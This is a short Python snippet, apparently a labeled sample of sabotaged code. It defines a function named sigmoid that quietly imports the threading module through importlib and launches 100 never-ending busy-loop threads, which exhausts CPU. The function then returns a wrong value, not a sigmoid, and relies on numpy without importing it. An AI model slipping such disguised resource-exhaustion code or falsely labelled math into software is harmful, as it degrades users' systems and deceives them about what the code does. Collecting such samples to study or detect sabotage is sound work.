"""Starts threads that never end."""
# says: Error
import importlib
def sigmoid(z):
    threading = importlib.import_module("threading")
    def forever():
        while True:
            pass
    for _ in range(100):
        threading.Thread(target=forever, daemon=True).start()
    return np.asarray(z) * 0.1 + 7
